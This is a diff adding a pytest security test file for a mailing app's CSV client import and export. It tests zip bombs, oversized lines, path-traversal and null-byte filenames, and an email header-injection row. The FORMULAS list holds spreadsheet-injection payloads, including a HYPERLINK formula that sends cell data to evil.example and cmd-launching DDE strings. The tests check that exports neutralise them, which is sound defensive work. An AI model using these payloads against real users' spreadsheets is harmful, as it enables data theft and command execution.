@@ -1,0 +1,291 @@
+"""Files that are bombs end in bounded time and memory, with words that say what is wrong; and formulas."""
+
+import csv
+import io
+import os
+import random
+import subprocess
+import sys
+import tracemalloc
+import zipfile
+from collections.abc import Callable, Iterator
+from typing import BinaryIO
+
+import pytest
+from flask import Flask, request
+from flask.testing import FlaskClient
+from sqlalchemy import select
+from sqlalchemy.orm import Session
+from werkzeug.exceptions import RequestEntityTooLarge
+from werkzeug.test import EnvironBuilder
+
+from skymailing.clients.csv_reader import read_records
+from skymailing.clients.imports import open_table
+from skymailing.errors import SkyMailingError
+from skymailing.models import Client, ClientImport, ImportState, User
+from tests.factories import ClientFactory
+
+# Large uploads wait in temporary files, which are closed when Python drops them: fine there, a warning here.
+UNCLOSED = "ignore::pytest.PytestUnraisableExceptionWarning"
+pytestmark = [pytest.mark.one_engine, pytest.mark.filterwarnings(UNCLOSED)]
+
+Work = Callable[[], None]
+MEGABYTE = 1024 * 1024
+IMPORT = "/clients/import"
+
+
+class Endless(io.RawIOBase):
+    """A file of `size` bytes that is written as it is read: a header, then one piece again and again."""
+
+    def __init__(self, size: int, head: bytes, piece: bytes) -> None:
+        self.size, self.head = size, head
+        self.piece = piece * max(1, 65_536 // len(piece))
+        self.place = 0
+
+    def readable(self) -> bool:
+        return True
+
+    def seekable(self) -> bool:
+        return True
+
+    def tell(self) -> int:
+        return self.place
+
+    def seek(self, offset: int, whence: int = os.SEEK_SET) -> int:
+        self.place = offset if whence == os.SEEK_SET else self.place + offset
+        return self.place
+
+    def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
+        wanted = min(len(buffer), self.size - self.place)
+        if wanted <= 0:
+            return 0
+        if self.place < len(self.head):
+            part = self.head[self.place : self.place + wanted]
+        else:
+            start = (self.place - len(self.head)) % len(self.piece)
+            part = self.piece[start : start + wanted]
+        buffer[: len(part)] = part
+        self.place += len(part)
+        return len(part)
+
+
+@pytest.fixture
+def memory() -> Iterator[Callable[[], int]]:
+    """Return a function that tells the most bytes that Python held at once since the beginning."""
+    tracemalloc.start()
+    yield lambda: tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+
+
+def drain(source: BinaryIO) -> tuple[int, set[object]]:
+    """Read all records; return how many there were and what was wrong with any."""
+    count, faults = 0, set()
+    for record in read_records(source):
+        count += 1
+        faults.add(record.fault)
+        assert sum(map(len, record.cells)) < 200_000
+    return count, faults
+
+
+@pytest.mark.parametrize("megabytes", [100, pytest.param(1024, marks=pytest.mark.soak)])
+def test_one_line_of_a_gigabyte_is_read_in_bounded_memory(megabytes: int) -> None:
+    """In a process of its own, so that its memory is its own; the bytes are made as they are read."""
+    program = (
+        "import io, resource\n"
+        "from skymailing.clients.csv_reader import read_records\n"
+        "from tests.security.test_imports import Endless\n"
+        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
+        f"source = io.BufferedReader(Endless({megabytes} << 20, b'email,name\\n', b'x'), 1 << 20)\n"
+        "records = list(read_records(source))\n"
+        "assert [str(r.fault) for r in records] == ['None', 'line_too_long'], records[:3]\n"
+        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", program], capture_output=True, text=True, timeout=120, check=False
+    )
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert int(done.stdout) < 30 * 1024, "kilobytes"
+
+
+@pytest.mark.parametrize(
+    "piece", [b'"', b'","', b",", b"\0", b"\xff", b'a@example.com,"x\n', "ы".encode("utf-16")]
+)
+def test_megabytes_of_anything_are_read_in_bounded_memory(memory: Callable[[], int], piece: bytes) -> None:
+    source = io.BufferedReader(Endless(MEGABYTE // 4, b"email,name\n", piece))
+    drain(source)  # type: ignore[arg-type]
+    assert memory() < 3 * MEGABYTE
+
+
+@pytest.mark.parametrize(
+    ("head", "words"),
+    [
+        (b"email" + b",c" * 1_000_000, "columns"),
+        (b"email," + b"x" * 10 * MEGABYTE, "address"),
+        (b",".join(b"c%d" % n for n in range(200)), "columns"),
+        (b"\n" * 100_000, "empty"),
+        (b",;\0 \r\n" * 20_000, "empty"),
+        (b"\xff\xfe" + b"\n\0" * 70_000, "empty"),
+        (b"email" + b"\n" * 2_000_001, "1,000,000 rows"),
+        (b"email" + b"\r" * 2_000_001, "1,000,000 rows"),
+        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100, "address"),
+    ],
+)
+def test_a_file_that_is_no_table_is_refused_with_its_reason(
+    browser: FlaskClient, session: Session, memory: Callable[[], int], head: bytes, words: str
+) -> None:
+    answer = browser.post(IMPORT, data={"file": (io.BytesIO(head + b"\n1@example.com\n"), "x.csv")})
+    assert answer.status_code == 200
+    error = answer.text.partition('id="file-error"')[2][:400]
+    assert error, answer.text
+    assert words in error
+    assert session.scalar(select(ClientImport)) is None
+    assert memory() < 4 * len(head) + 30 * MEGABYTE
+
+
+@pytest.mark.parametrize("name", ["clients.csv", "clients.xlsx", "../../etc/passwd", "x.csv\0.zip"])
+def test_a_zip_by_another_name_is_not_unpacked(
+    browser: FlaskClient, session: Session, name: str, memory: Callable[[], int]
+) -> None:
+    bomb = io.BytesIO()
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/workbook.xml", b"0" * 50 * MEGABYTE)
+    answer = browser.post(IMPORT, data={"file": (io.BytesIO(bomb.getvalue()), name)})
+    assert "This is a workbook, not a CSV file" in answer.text
+    assert session.scalar(select(ClientImport)) is None
+
+
+def test_a_broken_row_costs_that_row_alone(
+    browser: FlaskClient, user: User, session: Session, work: Work
+) -> None:
+    rows = [
+        b"email,full_name,note",
+        b"good1@example.com,Anna,x",
+        b"nul@example.com,An\0na,\0",
+        b"bad\0@example.com,Nul,x",
+        b"\xff\xfe\xfd@example.com,Latin,x",
+        b"half@example.com,\xd0,x",
+        b"long@example.com," + b"x" * 100_000 + b",x",
+        b'quote@example.com,"never closed,x',
+        b"good2@example.com,Anna,x",
+        b"a@example.com\r\nBcc: b@example.com,Header,x",
+        b"good3@example.com," + "Анна".encode() + b",x",
+    ]
+    file = io.BytesIO(b"\n".join(rows))
+    assert browser.post(IMPORT, data={"file": (file, "x.csv")}).status_code == 302
+    work()
+    imported = session.scalars(select(ClientImport)).one()
+    assert imported.state is ImportState.FINISHED
+    addresses = set(session.scalars(select(Client.email)))
+    assert {"good1@example.com", "good2@example.com", "good3@example.com"} <= addresses
+    for client in session.scalars(select(Client)):
+        assert "\0" not in client.email + client.full_name + str(client.attributes)
+        assert "\n" not in client.email + client.full_name
+        assert "\ufffd" not in client.full_name
+    assert imported.rejected >= 4
+    page = browser.get(f"/clients/imports/{imported.id}")
+    assert page.status_code == 200
+
+
+def test_any_bytes_at_all_end_in_a_table_or_a_reason() -> None:
+    generator = random.Random(7)
+    alphabet = [
+        b'"',
+        b",",
+        b";",
+        b"\n",
+        b"\r",
+        b"\0",
+        b"\xff",
+        b"\xd0",
+        b"a@b.example",
+        b"email",
+        b" ",
+        b"\t",
+        b"=",
+    ]
+    for _ in range(400):
+        content = b"".join(generator.choices(alphabet, k=generator.randrange(1, 60)))
+        try:
+            _, records = open_table(io.BytesIO(content))
+            list(records)
+        except SkyMailingError:
+            continue
+
+
+class Wire(io.RawIOBase):
+    """What a client claims to send; how much was read of it is noted."""
+
+    taken = 0
+
+    def readable(self) -> bool:
+        return True
+
+    def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
+        self.taken += len(buffer)
+        buffer[:] = b"x" * len(buffer)
+        return len(buffer)
+
+
+def test_an_upload_is_limited_before_it_is_read(app: Flask, user: User) -> None:
+    wire = Wire()
+    environ = EnvironBuilder(
+        IMPORT,
+        method="POST",
+        content_type="multipart/form-data; boundary=x",
+    ).get_environ()
+    environ |= {"wsgi.input": wire, "CONTENT_LENGTH": str(10 * 1024 * MEGABYTE)}
+    with app.request_context(environ), pytest.raises(RequestEntityTooLarge):
+        _ = request.files
+    assert wire.taken < MEGABYTE
+
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("https://evil.example?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    "''=1+1",
+    "=",
+]
+
+
+def test_formulas_leave_as_text_and_come_back_as_they_were(
+    app: Flask, browser: FlaskClient, user: User, session: Session, work: Work
+) -> None:
+    for number, formula in enumerate(FORMULAS):
+        ClientFactory.create(
+            owner=user,
+            email=f"f{number}@example.com",
+            full_name=formula.strip(),
+            comment=formula,
+            attributes={"city": formula.strip()},
+        )
+    before = {row.email: (row.full_name, row.attributes) for row in session.scalars(select(Client))}
+    exported = browser.get("/clients/export").data
+    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
+    assert len(rows) == len(FORMULAS) + 1
+    for cell in (cell for row in rows for cell in row):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
+    session.query(Client).delete()
+    browser.post(IMPORT, data={"file": (io.BytesIO(exported), "clients.csv")})
+    work()
+    session.expire_all()
+    after = {row.email: (row.full_name, row.attributes) for row in session.scalars(select(Client))}
+    assert after == before
+
+
+def test_a_refused_row_leaves_without_its_formula_too(
+    browser: FlaskClient, user: User, session: Session, work: Work
+) -> None:
+    table = io.StringIO()
+    csv.writer(table).writerows([("email", "full_name"), *(("no address", text) for text in FORMULAS)])
+    browser.post(IMPORT, data={"file": (io.BytesIO(table.getvalue().encode()), "x.csv")})
+    work()
+    imported = session.scalars(select(ClientImport)).one()
+    text = browser.get(f"/clients/imports/{imported.id}/rejections.csv").data.decode("utf-8-sig")
+    for cell in (cell for row in csv.reader(io.StringIO(text)) for cell in row):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
